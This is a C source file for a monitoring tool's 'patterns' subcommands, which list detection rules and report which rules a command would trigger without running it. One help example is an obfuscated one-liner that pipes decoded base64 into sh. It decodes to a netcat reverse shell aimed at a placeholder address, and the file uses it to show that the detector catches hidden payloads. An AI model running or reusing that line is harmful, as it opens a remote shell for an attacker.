/* SPDX-License-Identifier: GPL-2.0-or-later */
/* The rules about programs, and which of them would fire. Needs no container and no root. */
#include <errno.h>
#include <stdio.h>
#include <string.h>

#include "audit/threat.h"
#include "base/json.h"
#include "base/mem.h"
#include "base/path.h"
#include "base/strv.h"
#include "base/table.h"
#include "cli/app.h"
#include "cli/commands.h"
#include "cli/foreign-rules.h"
#include "cli/output.h"
#include "monitor/command.h"
#include "monitor/detect.h"
#include "session/monitoring.h"

#define BUILT_IN "built-in"

/* --- list */

struct list {
	struct table *table;
	json_t *json;
};

static json_t *rule_json(const struct finding *f) {
	return json_pack("{s:s, s:s, s:s, s:s, s:s, s:s}", "source", BUILT_IN, "rule", f->rule, "level",
	                 audit_level_to_string(f->level), "category",
	                 audit_category_to_string(f->category), "title", f->title, "description",
	                 f->description);
}

static int add_rule(const struct finding *f, void *data) {
	const struct list *l = data;
	const char *cells[] = { f->rule, audit_level_to_string(f->level),
		                audit_category_to_string(f->category), BUILT_IN, f->description };

	if (l->json)
		json_array_append_new(l->json, rule_json(f));
	else
		table_add(l->table, cells);
	return 0;
}

static void add_foreign(const json_t *rule, const struct list *l) {
	const char *cells[] = { json_get_str(rule, "rule", ""), json_get_str(rule, "level", ""),
		                json_get_str(rule, "category", ""),
		                json_get_str(rule, "source", ""), json_get_str(rule, "title", "") };

	if (l->json)
		json_array_append(l->json, (json_t *)rule);
	else
		table_add(l->table, cells);
}

static int list_run(struct cli *cli, const void *args, struct err *err) {
	static const char *const titles[] = { "RULE",   "LEVEL",         "CATEGORY",
		                              "SOURCE", "WHAT IT FINDS", NULL };
	auto_json json_t *json = cli->json ? json_array() : NULL, *foreign = NULL;
	auto_table struct table *t = table_new(titles);
	struct list l = { .json = json, .table = t };
	const json_t *rules;
	int r = foreign_rules_ask(cli, NULL, 0, &foreign, err);

	(void)args;
	if (r < 0)
		return r;
	(void)detect_each_rule(add_rule, &l);
	rules = json_object_get(foreign, "rules");
	for (size_t i = 0; i < json_array_size(rules); i++)
		add_foreign(json_array_get(rules, i), &l);
	if (json)
		return output_document(steal_ptr(json), err);
	table_print(t, stdout);
	return 0;
}

static const struct cli_command patterns_list = {
	.name = "list",
	.group = GROUP_OTHER,
	.summary = "list the rules about programs that are run",
	.description = "The built-in ones, and those that 'coi update patterns' has fetched.",
	.flags = COMMAND_CONFIG | COMMAND_FORMAT,
	.run = list_run,
};

/* --- test */

/* One word is what a person would type into a shell; several are a program and its words. */
static void make_event(struct cli *cli, char **ret_argv, struct watch_event *ret) {
	size_t argc = cli->parsed.word_count;
	bool is_text = argc == 1;

	ret_argv[0] = (char *)"sh";
	ret_argv[1] = (char *)"-c";
	ret_argv[2] = cli->parsed.words[0];
	*ret = (struct watch_event){ .kind = WATCH_EXEC, .uid = -1 };
	ret->exec.argv = is_text ? ret_argv : cli->parsed.words;
	ret->exec.argc = is_text ? 3 : argc;
	ret->exec.exe = ret->exec.argv[0];
	ret->exec.file = path_base(ret->exec.argv[0]);
	ret->exec.comm = ret->exec.file;
	ret->comm = ret->exec.file;
}

/* What the text comes down to, so that one sees why. */
static char *understood(const struct command *c) {
	struct buf b;

	buf_init(&b, COMMAND_WORD_MAX);
	command_add_line(&b, c);
	if (c->is_unknown)
		buf_adds(&b, " (a name that only running it would tell)");
	return buf_steal(&b);
}

static json_t *finding_json(const struct finding *f, enum audit_action action) {
	json_t *j = rule_json(f);

	json_object_set_new(j, "indicator", json_text(f->indicator));
	json_object_set_new(j, "action", json_string(audit_action_to_string(action)));
	return j;
}

static enum audit_level level_of(const json_t *found) {
	return audit_level_from_string(json_get_str(found, "level", ""));
}

static void show_finding(const json_t *f, const struct monitoring_plan *plan) {
	output_line("%s: %s (%s)", json_get_str(f, "level", ""), json_get_str(f, "title", ""),
	            json_get_str(f, "rule", ""));
	output_line("  why: %s", json_get_str(f, "description", ""));
	if (json_object_get(f, "file"))
		output_line("  by:  %s of %s, there '%s'", json_get_str(f, "file", ""),
		            json_get_str(f, "source", ""), json_get_str(f, "given", ""));
	output_line("  in:  %s", json_get_str(f, "indicator", ""));
	if (!plan->is_enabled)
		output_line("  then: nothing, monitoring is off ([monitoring] enabled)");
	else
		output_line("  then: %s", json_get_str(f, "action", ""));
}

static void show(const struct commands *c, const json_t *found,
                 const struct monitoring_plan *plan) {
	output_line("It is read as:");
	for (size_t i = 0; i < c->count; i++) {
		autofree char *line = understood(&c->items[i]);

		output_line("  %s", line);
	}
	for (size_t i = 0; i < c->code_count; i++)
		output_line("  a program text: %.200s", c->codes[i].text);
	output_line("%s", "");
	if (!json_array_size(found))
		output_line("No rule fires.");
	for (size_t i = 0; i < json_array_size(found); i++)
		show_finding(json_array_get(found, i), plan);
}

/* Of the rules of others all that fire: which of them is told depends on what else does. */
static int add_fires(struct cli *cli, const struct watch_event *e,
                     const struct monitoring_plan *plan, json_t *found, struct err *err) {
	auto_json json_t *foreign = NULL;
	int r = foreign_rules_ask(cli, e->exec.argv, e->exec.argc, &foreign, err);
	const json_t *fires = json_object_get(foreign, "fires");

	for (size_t i = 0; r == 0 && i < json_array_size(fires); i++) {
		json_t *one = json_array_get(fires, i);
		enum audit_level level = level_of(one);

		if (level == AUDIT_LEVEL_COUNT)
			continue;
		json_object_set_new(
			one, "action",
			json_string(audit_action_to_string(monitoring_action(plan, level))));
		json_array_append(found, one);
	}
	return r;
}

static int test_run(struct cli *cli, const void *args, struct err *err) {
	auto_json json_t *found = json_array();
	auto_monitoring_plan struct monitoring_plan plan = { 0 };
	auto_commands struct commands read = { 0 };
	struct findings all = { 0 };
	struct watch_event e;
	char *argv[4] = { NULL };
	int r;

	(void)args;
	monitoring_from_settings(cli->settings, &plan);
	make_event(cli, argv, &e);
	commands_read(&e.exec, &read);
	detect_exec(&e, &read, &plan.detect, &all);
	for (size_t i = 0; i < all.count; i++)
		json_array_append_new(
			found,
			finding_json(&all.items[i], monitoring_action(&plan, all.items[i].level)));
	r = add_fires(cli, &e, &plan, found, err);
	if (r < 0)
		return r;
	if (cli->json)
		return output_document(steal_ptr(found), err);
	show(&read, found, &plan);
	return 0;
}

static const struct cli_argument test_arguments[] = {
	{ "command", ARGUMENT_REPEATED, COMPLETE_NONE,
	  "A line for a shell as one word, or a program and its words" },
	{ NULL },
};

static const struct cli_example test_examples[] = {
	{ "coi monitor patterns test 'echo bmMgLWUgc2ggMS4yLjMuNCA1Cg== | base64 -d | sh'",
	  "what is hidden in it is found too" },
	{ "coi monitor patterns test -- git push origin main", "ordinary work raises nothing" },
	{ NULL },
};

static const struct cli_command patterns_test = {
	.name = "test",
	.group = GROUP_OTHER,
	.summary = "say which rules a command would raise, and why",
	.description =
		"Nothing is run. It is shown how the command is read, which rules fire, what in "
		"it they found, and what would be done with the settings that are in force here.",
	.arguments = test_arguments,
	.examples = test_examples,
	.flags = COMMAND_CONFIG | COMMAND_FORMAT | COMMAND_INNER,
	.run = test_run,
};

static const struct cli_command *const patterns_children[] = { &patterns_list, &patterns_test,
	                                                       NULL };

const struct cli_command cmd_monitor_patterns = {
	.name = "patterns",
	.group = GROUP_OTHER,
	.summary = "the rules by which programs are judged",
	.children = patterns_children,
};
